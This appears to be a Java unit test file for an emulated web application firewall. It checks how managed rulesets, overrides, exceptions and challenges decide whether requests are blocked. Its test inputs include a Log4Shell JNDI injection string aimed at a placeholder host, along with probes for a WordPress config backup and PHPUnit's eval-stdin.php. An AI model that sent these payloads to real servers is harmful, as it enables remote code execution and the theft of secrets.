package dev.edgecase.phase.managed;

import static dev.edgecase.phase.managed.Managed.FREE;
import static dev.edgecase.phase.managed.Managed.edge;
import static dev.edgecase.phase.managed.Managed.execute;
import static dev.edgecase.phase.managed.Managed.executing;
import static dev.edgecase.phase.managed.Managed.skip;
import static dev.edgecase.phase.managed.Managed.told;
import static dev.edgecase.phase.managed.Managed.withRules;
import static org.assertj.core.api.Assertions.assertThat;

import dev.edgecase.pipeline.Decider;
import dev.edgecase.pipeline.SecurityEvent.Source;
import dev.edgecase.testkit.InMemoryEdge;
import dev.edgecase.testkit.Knobs;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ManagedRulesPhaseTest {
    private static final String CLOUDFLARE = "efb7b8c949ac4650a09736fc376e9aee";
    private static final String LOG4J = "/?q=${jndi:ldap://evil.test/a}";
    private static final String WP_CONFIG = "/wp-config.php.bak";

    @Test
    void a_zone_without_managed_rules_has_the_free_ruleset() {
        var answer = InMemoryEdge.standard().get(LOG4J);

        assertThat(told(answer)).isEqualTo("403 block ec-log4j");
        assertThat(answer.received()).isEmpty();
        assertThat(answer.body()).contains("Sorry, you have been blocked");
        var event = answer.journey().securityEvents().get(0);
        assertThat(event.source()).isEqualTo(Source.FIREWALL_MANAGED);
        var ruling = answer.journey().ruling();
        assertThat(ruling.decider()).isEqualTo(Decider.WAF_MANAGED);
        assertThat(ruling.reason())
                .contains("blocked the request by rule ec-log4j of the Cloudflare Managed Free Ruleset")
                .contains("found \"${jndi:ldap://evil.test/a}\" in the argument q");
    }

    @Test
    void an_ordinary_request_is_none_of_its_business() {
        var answer = InMemoryEdge.standard().get("/cart?id=7", "User-Agent", "Mozilla/5.0 (X11; Linux)");

        assertThat(told(answer)).isEqualTo("200");
        assertThat(answer.journey().rulesetRuns()).isEmpty();
    }

    @Test
    void a_knob_switches_it_off() {
        assertThat(told(InMemoryEdge.with(zone -> Knobs.turned(zone, "waf_free_ruleset", "off"))
                        .get(LOG4J)))
                .isEqualTo("200");
    }

    @Test
    void a_zone_with_an_entry_point_has_what_that_executes() {
        assertThat(told(edge().get(LOG4J))).isEqualTo("200");
        assertThat(told(executing(FREE, "").get(LOG4J))).isEqualTo("403 block ec-log4j");
    }

    @Test
    void the_accounts_managed_rules_come_before_the_free_ruleset() {
        var edge = InMemoryEdge.with(zone -> withRules(zone, """
                {"account":{"rules":{"http_request_firewall_managed":[
                  {"ref":"watch","action":"log","expression":"true"}]}}}"""));

        assertThat(told(edge.get(LOG4J))).isEqualTo("403 log watch block ec-log4j");
        assertThat(told(edge.get("/"))).isEqualTo("200 log watch");
    }

    @ParameterizedTest(name = "{0} does {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            {'enabled':false}                                                                       | 200
            {'action':'log'}                                                                        | 200 log ec-log4j
            {'action':'managed_challenge'}                                                          | 403 managedChallenge ec-log4j
            {'sensitivity_level':'eoff'}                                                            | 200
            {'sensitivity_level':'low'}                                                             | 403 block ec-log4j
            {'categories':[{'category':'log4j','action':'log'}]}                                    | 200 log ec-log4j
            {'categories':[{'category':'wordpress','action':'log'}]}                                | 403 block ec-log4j
            {'action':'log','categories':[{'category':'log4j','action':'block'}]}                   | 403 block ec-log4j
            {'rules':[{'id':'ec-log4j','action':'log'}]}                                            | 200 log ec-log4j
            {'enabled':false,'rules':[{'id':'ec-log4j','enabled':true}]}                            | 403 block ec-log4j
            {'categories':[{'category':'log4j','enabled':false}],'rules':[{'id':'ec-log4j','enabled':true}]} | 403 block ec-log4j
            """)
    void what_is_said_of_a_rule_comes_before_what_is_said_of_its_tag_and_of_all(String overrides, String wanted) {
        assertThat(told(executing(FREE, overrides).get(LOG4J))).isEqualTo(wanted);
    }

    @Test
    void a_rule_that_is_off_by_itself_is_switched_on_by_name() {
        var on = executing(FREE, "{'rules':[{'id':'WP0002','enabled':true}]}");

        assertThat(told(executing(FREE, "").get("/xmlrpc.php"))).isEqualTo("200");
        assertThat(told(on.get("/xmlrpc.php"))).isEqualTo("403 block WP0002");
    }

    @ParameterizedTest(name = "{0}, then {2}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            {'ruleset':'current'}                                                | true  | 200 skip exception
            {'ruleset':'current'}                                                | false | 403 block ec-log4j
            {'rulesets':['77454fe2d30c4220b5701f6fdfb893ba']}                    | true  | 200 skip exception
            {'rulesets':['efb7b8c949ac4650a09736fc376e9aee']}                    | true  | 403 skip exception block ec-log4j
            {'rules':{'77454fe2d30c4220b5701f6fdfb893ba':['ec-log4j']}}          | true  | 200 skip exception
            {'rules':{'77454fe2d30c4220b5701f6fdfb893ba':['ec-shellshock']}}     | true  | 403 skip exception block ec-log4j
            """)
    void an_exception_holds_for_what_is_executed_behind_it(String parameters, boolean before, String wanted) {
        var exception = skip("http.host eq \"shop.test\"", parameters);
        var edge = before ? edge(exception, execute(FREE, "")) : edge(execute(FREE, ""), exception);

        assertThat(told(edge.get(LOG4J))).isEqualTo(wanted);
    }

    @Test
    void a_custom_rule_skips_the_phase() {
        var edge = InMemoryEdge.with(zone -> withRules(zone, """
                {"rules":{"http_request_firewall_custom":[{"ref":"pass","action":"skip","expression":"true",
                  "action_parameters":{"phases":["http_request_firewall_managed"]}}]}}"""));

        assertThat(told(edge.get(LOG4J))).isEqualTo("200 skip pass");
    }

    @Test
    void the_cloudflare_ruleset_finds_what_the_free_one_does_and_more() {
        var edge = executing(CLOUDFLARE, "");

        assertThat(told(edge.get(WP_CONFIG))).isEqualTo("403 block ec-wp-config");
        assertThat(told(edge.get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")))
                .isEqualTo("403 block ec-phpunit");
        assertThat(told(executing(FREE, "").get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")))
                .isEqualTo("200");
    }

    @Test
    void a_challenge_is_met_again_by_who_has_passed_one() {
        var edge = executing(FREE, "{'action':'managed_challenge'}").from("127.0.0.1");
        var solved = edge.get(LOG4J, "Edgecase-Challenge-Solve", "managed");
        assertThat(solved.status()).isEqualTo(200);

        var again = edge.get(LOG4J, "Cookie", solved.header("Set-Cookie").split(";", 2)[0]);

        assertThat(told(again)).isEqualTo("403 managedChallenge ec-log4j");
    }

    @ParameterizedTest(name = "from {0}: {1}")
    @CsvSource(textBlock = """
            192.0.63.255,  403 block WP0007
            192.0.64.0,    200
            192.0.127.255, 200
            192.0.128.0,   403 block WP0007
            """)
    void jetpack_calls_from_its_own_addresses(String address, String wanted) {
        assertThat(told(InMemoryEdge.standard().from(address).get("/xmlrpc.php?for=jetpack")))
                .isEqualTo(wanted);
    }

    @Test
    void other_addresses_of_jetpack_are_a_knob() {
        var edge = InMemoryEdge.with(zone -> Knobs.turned(zone, "waf_jetpack_ranges", "203.0.113.7+198.51.100.0/24"));

        assertThat(told(edge.from("203.0.113.7").get("/xmlrpc.php?for=jetpack")))
                .isEqualTo("200");
        assertThat(told(edge.from("203.0.113.8").get("/xmlrpc.php?for=jetpack")))
                .isEqualTo("403 block WP0007");
        assertThat(told(edge.from("192.0.64.1").get("/xmlrpc.php?for=jetpack"))).isEqualTo("403 block WP0007");
    }
}
